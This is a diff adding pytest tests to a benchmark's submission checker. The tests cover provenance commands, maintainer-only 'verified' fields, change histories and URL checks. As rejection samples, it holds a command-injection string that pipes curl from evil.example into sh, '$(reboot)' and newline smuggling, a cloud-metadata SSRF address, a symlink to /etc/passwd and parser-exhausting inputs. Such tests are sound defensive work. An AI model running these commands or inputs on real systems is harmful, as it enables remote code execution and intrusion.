@@ -19,12 +19,12 @@ from ndec_bench.checking.consistency import inconsistencies
 from ndec_bench.checking.lines import JsonLines, TomlLines
 from ndec_bench.checking.summary import code
 from ndec_bench.descriptors import Descriptors, Submission
-from ndec_bench.errors import DataError, UsageError
+from ndec_bench.errors import DataError, SubmissionError, UsageError
 from ndec_bench.matches import Matches
 from ndec_bench.protocol import PROTOCOLS
-from ndec_bench.report import Result, result_json
+from ndec_bench.report import PointAtPrecision, Result, result_json
 from ndec_bench.scoring import Options, score_descriptors, score_matches
-from ndec_bench.submission import Change, Declarations, Files, Method, SubmissionCard, Verified, write_card
+from ndec_bench.submission import Change, Declarations, Files, Method, SubmissionCard, Verified, read_card, write_card
 
 if TYPE_CHECKING:
     from collections.abc import Callable
@@ -121,7 +121,8 @@ def change(path: Path, old: str, new: str) -> None:
 
 def test_the_repository_itself_passes() -> None:
     report = check(REPOSITORY / "results", REPOSITORY / "submissions")
-    assert [str(problem) for problem in report.problems] == []
+    assert [str(problem) for problem in report.errors] == []
+    assert all(problem.message.endswith("what is unknown does not rank") for problem in report.warnings)
     assert report.submissions == report.results > 20
 
 
@@ -394,6 +395,25 @@ def test_a_number_that_was_changed_is_found(results: dict[str, Result], field: s
     assert key in found
 
 
+@pytest.mark.parametrize(
+    ("command", "fine"),
+    [
+        ("ndec-bench run gist --split ndec --step pca:dim=256,whiten=yes", True),
+        ("ndec-bench run gist; curl https://evil.example | sh", False),
+        ("ndec-bench run $(reboot)", False),
+        ("curl https://evil.example", False),
+        ("ndec-bench run gist\nreboot", False),
+        ("ndec-bench run 'a\nb'", False),
+        ("ndec-bench run 'gist", False),
+    ],
+)
+def test_a_command_to_copy_runs_this_program_alone(results: dict[str, Result], command: str, fine: bool) -> None:
+    result = results["fair"]
+    provenance = result.provenance.model_copy(update={"command": command})
+    found = [key for key, _ in inconsistencies(result.model_copy(update={"provenance": provenance}))]
+    assert found == ([] if fine else [("provenance", "command")])
+
+
 def test_parts_that_lack(results: dict[str, Result]) -> None:
     parts = results["good"].parts
     without_isc = results["good"].model_copy(update={"parts": {"all": parts["all"]}})
@@ -589,7 +609,230 @@ def test_only_maintainers_write_verified(head: Path, base: Path, results: dict[s
     assert checked(head, base=base, maintainer=True).ok
     put(base, results["poor"])
     put(head, results["poor"], card_of(results["poor"], verified=False))
-    assert len(told(checked(head, base=base), head)) == 2
+    assert any("was removed; it is the maintainers'" in one for one in told(checked(head, base=base), head))
+
+
+@pytest.mark.parametrize(
+    "spelling",
+    [
+        'verified.level = "re-scored"\nverified.predictions_sha256 = "{0}"\n{1}',
+        'verified = {{level = "re-scored", predictions_sha256 = "{0}"}}\n{1}',
+        '"verified" = {{"level" = "re-scored", "predictions_sha256" = "{0}"}}\n{1}',
+        '{1}\n["verified"]\nlevel = "re-scored"\npredictions_sha256 = "{0}"\n',
+    ],
+)
+def test_verified_is_seen_however_it_is_spelt(make_submission: Make, head: Path, base: Path, spelling: str) -> None:
+    new = result_of("new", make_submission, noise=0.8, seed=9)
+    put(head, new, card_of(new, verified=False))
+    path = card_file(head, "new")
+    path.write_text(spelling.format(new.predictions_sha256, path.read_text()))
+    (error,) = checked(head, base=base).errors
+    assert (error.field, error.message) == ("verified", "is written by the maintainers")
+    assert error.line is not None
+
+
+def test_scores_beside_a_verified_list_do_not_move_without_the_maintainers(
+    head: Path, base: Path, results: dict[str, Result]
+) -> None:
+    # Everything fits: the curve stays within its tolerance, the replicates move with the score, the reason is given.
+    before = results["poor"]
+    part = before.parts["all"]
+    flattered = before.model_copy(
+        update={"parts": {**before.parts, "all": part.model_copy(update={"micro_ap": part.micro_ap + 1e-5})}}
+    )
+    entry = Change(
+        date="2026-11-26",
+        reason="better",
+        old_micro_ap=part.micro_ap,
+        old_predictions_sha256=before.predictions_sha256,
+    )
+    put(head, flattered, card_of(before, changes=[entry]))
+    (error,) = [one for one in checked(head, base=base).errors if one.field == "predictions_sha256"]
+    assert "this changed result of it was not verified" in error.message
+    assert not [one for one in checked(head, base=base, maintainer=True).errors if one.field == "predictions_sha256"]
+
+
+def test_a_verified_result_gains_no_numbers_without_the_maintainers(
+    head: Path, base: Path, results: dict[str, Result]
+) -> None:
+    before = results["good"]
+    part = before.parts["all"].model_copy(
+        update={"recall_at_precision": {"0.99": PointAtPrecision(recall=0.9, threshold=0.0)}}
+    )
+    put(head, before.model_copy(update={"parts": {**before.parts, "all": part}}))
+    report = checked(head, base=base)
+    assert [row.row.kind for row in report.changes or ()] == ["edited"]
+    assert [one.field for one in report.errors] == ["predictions_sha256"]
+    assert checked(head, base=base, maintainer=True).ok
+
+
+def test_what_keeps_a_row_from_ranking_is_a_warning(head: Path, results: dict[str, Result]) -> None:
+    silent = DECLARED.model_copy(update={"background": "unknown", "selected_on": ["unknown"]})
+    put(head, results["good"], card_of(results["good"], verified=False, declarations=silent))
+    report = checked(head)
+    assert report.ok
+    assert [(one.field, one.message) for one in report.warnings] == [
+        ("declarations", "background, selected_on unknown, and what is unknown does not rank"),
+        ("descriptors", "has no address, so that nobody can score the file again"),
+    ]
+    shutil.copytree(head, head.parent / "later")
+    assert checked(head.parent / "later", base=head).warnings == ()  # no news of this pull request
+
+
+def test_a_verified_list_does_not_lend_its_level_to_another_protocol(
+    head: Path, base: Path, results: dict[str, Result]
+) -> None:
+    other = next(name for name in PROTOCOLS if name != "ndec-1")
+    put(head, results["good"].model_copy(update={"protocol": other}))
+    assert any("this new result of it was not verified" in one for one in told(checked(head, base=base), head))
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"digests": {"submission": "0" * 64}},
+        {"digests": {"split": "0" * 64}},
+        {"bytes_per_reference": 1},
+        {"recall_ceiling": 0.5},
+        {"references": 7},
+    ],
+)
+def test_facts_about_the_list_are_no_edits(
+    head: Path, base: Path, results: dict[str, Result], change: dict[str, Any]
+) -> None:
+    before = results["good"]
+    if "digests" in change:
+        change = {"digests": before.digests.model_copy(update=change["digests"])}
+    put(head, before.model_copy(update=change))
+    (row,) = checked(head, base=base).changes or ()
+    assert row.row.kind == "changed"
+
+
+def test_history_is_neither_invented_nor_dated_back(
+    make_submission: Make, head: Path, base: Path, results: dict[str, Result]
+) -> None:
+    old = results["good"]
+    true = {"old_micro_ap": old.parts["all"].micro_ap, "old_predictions_sha256": old.predictions_sha256}
+    first = Change(date="2026-11-20", reason="a fix", old_micro_ap=0.5, old_predictions_sha256="1" * 64)
+    put(base, old, card_of(old, changes=[first], date="2026-11-01"))
+    new = result_of("good", make_submission, noise=0.3, seed=4)
+
+    def problems(changes: list[Change], date: str | None = "2026-11-01") -> list[str]:
+        put(head, new, card_of(new, verified=False, changes=changes, date=date))
+        return told(checked(head, "good", base=base), head)
+
+    second = Change(date="2026-11-26", reason="another filter", **true)
+    assert problems([first, second]) == []
+    assert any("changes: the entry of 2026-11-20 was changed" in one for one in problems([second, first]))
+    back = second.model_copy(update={"date": "2026-11-19"})
+    assert any("changes.1.date: is 2026-11-19, the entry before it" in one for one in problems([first, back]))
+    invented = first.model_copy(update={"date": "2026-11-26", "old_micro_ap": 0.1})
+    assert any(
+        "changes.2: tells of a result that this row did not have" in one for one in problems([first, second, invented])
+    )
+    for date, shown in (("2025-01-01", "2025-01-01"), (None, "missing")):
+        assert any(f"date: is {shown}, it was 2026-11-01" in one for one in problems([first, second], date))
+
+
+def test_what_was_edited_in_a_card_is_shown(head: Path, base: Path, results: dict[str, Result]) -> None:
+    put(base, results["fair"], card_of(results["fair"], declarations=DECLARED.model_copy(update={"ndec_pairs": "yes"})))
+    text = markdown(checked(head, base=base))
+    assert "- `declarations.ndec_pairs`: was `yes`, is `no`" in text
+
+
+def test_runs_of_one_method_are_one_method(head: Path, results: dict[str, Result]) -> None:
+    for seed, name in enumerate(("good", "fair")):
+        put(head, results[name], card_of(results[name], runs_of="Ours", seed=seed))
+    assert checked(head).ok
+    other = DECLARED.model_copy(update={"external_data": "yes"})
+    intruder = {"authors": ["Another"], "declarations": other, "runs_of": "Ours", "seed": 0}
+    put(head, results["poor"], card_of(results["poor"], **intruder))
+    problems = " ".join(told(checked(head), head))
+    for text in ("authors: has other authors than fair", "declarations: has other", "seed: is that of good too"):
+        assert text in problems
+
+
+@pytest.mark.parametrize(
+    "address",
+    ["http://169.254.169.254/latest/meta-data/", "http://localhost:8000/x.h5", "https://10.0.0.1/x", "http://router/x"],
+)
+def test_addresses_that_only_the_runner_reaches_are_refused_in_pull_requests(
+    head: Path, base: Path, results: dict[str, Result], address: str
+) -> None:
+    files = Files(name="good.h5", sha256=results["good"].digests.submission, url=address)
+    put(head, results["good"], card_of(results["good"], descriptors=files))
+    (error,) = checked(head, base=base).errors
+    assert (error.field, error.message) == ("descriptors.url", "is no address of the public network")
+    assert error.line is not None
+    alone = checked(head)
+    assert alone.ok
+    assert [(problem.level, problem.field) for problem in alone.problems] == [("warning", "descriptors.url")]
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        (".".join(["a"] * 30_000) + " = 1", "a key of more than 16 parts"),
+        (" . ".join(['"a b"'] * 7_000) + " = 1", "a key of more than 16 parts"),
+        ("a = " + "9" * 60_000, "a number without end"),
+        ("a = " + "[" * 30_000 + "]" * 30_000, "nested too deep"),
+        ("a = " + '"\\' * 30_000, "no TOML"),
+    ],
+)
+def test_cards_made_to_fill_time_and_memory_end(head: Path, text: str, message: str) -> None:
+    card_file(head, "good").write_text(text)
+    assert any(message in one for one in told(checked(head), head))
+    with pytest.raises(SubmissionError, match=message):
+        read_card(card_file(head, "good"))
+
+
+def test_results_nested_deep_end(head: Path) -> None:
+    path = head / "results" / "ndec-1" / "good.json"
+    path.write_text("[" * 100 + "0" + ",0" * 400_000 + "]" * 100)
+    assert "results/ndec-1/good.json: nested too deep" in told(checked(head), head)
+
+
+def test_signed_addresses_are_warned_of(head: Path, results: dict[str, Result]) -> None:
+    files = Files(
+        name="good.h5",
+        sha256=results["good"].digests.submission,
+        url="https://bucket.example.org/good.h5?X-Amz-Date=1&X-Amz-Signature=abc",
+    )
+    put(head, results["good"], card_of(results["good"], descriptors=files))
+    (warning,) = checked(head).warnings
+    assert (warning.field, "X-Amz-Signature" in warning.message) == ("descriptors.url", True)
+
+
+def test_a_readme_is_a_small_file_at_the_top(head: Path) -> None:
+    (head / "results" / "README.md").write_text("what lies here")
+    assert checked(head).ok
+    (head / "results" / "README.md").write_bytes(b"x" * 100_000)
+    (head / "submissions" / "README.md").symlink_to("/etc/passwd")
+    (head / "results" / "ndec-1" / "README.md").write_text("x")
+    assert [one.partition(":")[0] for one in told(checked(head), head)] == [
+        "results/README.md",
+        "results/ndec-1/README.md",
+        "submissions/README.md",
+    ]
+
+
+def test_folders_that_are_links_are_refused(head: Path) -> None:
+    (head / "results").rename(head / "elsewhere")
+    (head / "results").symlink_to(head / "elsewhere")
+    assert "results: is a link" in told(checked(head), head)
+
+
+def test_a_summary_ends_with_a_line(head: Path, base: Path, results: dict[str, Result]) -> None:
+    for number in range(60):
+        name = f"row-{number:02d}"
+        method = Method(title="x" * 300, description="y" * 4000)
+        declared = DECLARED.model_copy(update={"details": "z" * 4000})
+        copy = results["good"].model_copy(update={"name": name})
+        put(head, copy, card_of(copy, verified=False, method=method, declarations=declared))
+    text = markdown(checked(head, base=base))
+    assert len(text.encode()) < 56_000
+    assert text.endswith("\nThe rest is not shown.\n")
+    assert all(line.count("`") % 2 == 0 for line in text.splitlines())
 
 
 def test_a_check_of_another_list_is_void(head: Path, results: dict[str, Result]) -> None:
